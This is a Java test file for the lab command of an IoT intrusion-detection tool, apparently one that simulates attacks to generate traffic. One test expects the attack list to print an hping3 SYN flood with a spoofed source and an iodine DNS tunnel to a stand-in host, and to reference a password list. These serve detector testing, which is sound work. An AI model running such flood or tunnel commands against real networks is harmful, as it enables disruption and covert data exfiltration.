package io.iotwatch.app.cli;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assumptions.assumeFalse;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import io.iotwatch.sim.lab.LabRunner;
import io.iotwatch.sim.lab.LabTools;
import io.iotwatch.sim.truth.AttackKind;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** 'iotwatch lab' without building a lab: usage errors, the attack list, the checks done before a run. */
class LabCommandTest {

    @TempDir
    Path dir;

    @Test
    void withoutASubcommandItSaysWhatThereIs() {
        CliRun run = CliRun.of("lab");

        assertThat(run.exitCode()).isEqualTo(ExitCodes.USAGE);
        assertThat(run.err()).contains("'iotwatch lab install', 'lab run OUT_DIR', 'lab clean' or 'lab list'");
    }

    @Test
    void anUnknownAttackIsAUsageErrorListingTheKnownOnes() {
        CliRun run = CliRun.of("lab", "run", dir.resolve("out").toString(), "--attacks", "port-scan,teardrop");

        assertThat(run.exitCode()).as(run.toString()).isEqualTo(ExitCodes.USAGE);
        assertThat(run.err()).contains("--attacks: unknown attack teardrop; known: all, none, ping-sweep");
    }

    @Test
    void settingsOutOfBoundsAreUsageErrors() {
        CliRun floods = CliRun.of("lab", "run", dir.resolve("out").toString(), "--flood-packets", "10");
        CliRun beacon = CliRun.of("lab", "run", dir.resolve("out").toString(), "--beacon-minutes", "500");

        assertThat(floods.exitCode()).isEqualTo(ExitCodes.USAGE);
        assertThat(floods.err()).contains("flood packets must be from 300 to 200000");
        assertThat(beacon.exitCode()).isEqualTo(ExitCodes.USAGE);
        assertThat(beacon.err()).contains("the beacon must last from 2 minutes to 2 hours");
    }

    @Test
    void listShowsEveryAttackWithItsClassAndCommands() {
        CliRun run = CliRun.of("lab", "list");

        assertThat(run.exitCode()).isZero();
        for (AttackKind kind : AttackKind.values()) {
            assertThat(run.out()).contains(kind.id + " (" + kind.attackClass + "): " + kind.description);
        }
        assertThat(run.out()).contains("[attacker] hping3 -q -S -p 80 -c 4000 -i u100 -a 10.77.0.66 10.77.0.10",
                "[camera] iodine -f -r -P lab-tunnel 10.77.0.10 tunnel.example &", "OUT_DIR/run/lists/passwords.txt");
    }

    @Test
    void aRunIsRefusedBeforeAnythingIsBuiltWhenItCannotGoAhead() throws Exception {
        Path used = Files.createDirectories(dir.resolve("used"));
        Files.writeString(used.resolve("all.pcap"), "an earlier run");

        CliRun run = CliRun.of("lab", "run", used.toString(), "--attacks", "none", "--sensor");

        assertThat(run.exitCode()).as(run.toString()).isEqualTo(ExitCodes.FAILURE);
        if (!LabRunner.isRoot()) {
            assertThat(run.err()).contains("iotwatch lab run needs root");
        } else if (!LabTools.missing(List.of()).isEmpty()) {
            assertThat(run.err()).contains("the lab needs programs that are missing", "'iotwatch lab install' installs them");
        } else {
            assertThat(run.err()).contains(used + " is not an empty folder");
        }
        try (var entries = Files.list(used)) {
            assertThat(entries).containsExactly(used.resolve("all.pcap"));
        }
    }

    @Test
    void continuousIntegrationInstallsEveryLabPackage() throws Exception {
        Path ci = Path.of("..", ".ci", "run");
        assumeTrue(Files.isRegularFile(ci), "no .ci/run in " + Path.of("..").toAbsolutePath().normalize());
        String script = Files.readString(ci);
        String list = script.substring(script.indexOf("lab_packages=(") + "lab_packages=(".length());
        list = list.substring(0, list.indexOf(')'));

        assertThat(List.of(list.strip().split("\\s+"))).containsExactlyElementsOf(LabTools.PACKAGES);
    }

    @Test
    void cleaningNeedsRoot() {
        assumeFalse(LabRunner.isRoot(), "as root, 'lab clean' would remove the lab namespaces of a run going on");
        CliRun run = CliRun.of("lab", "clean");

        assertThat(run.exitCode()).isEqualTo(ExitCodes.FAILURE);
        assertThat(run.err()).contains("iotwatch lab clean needs root");
    }
}
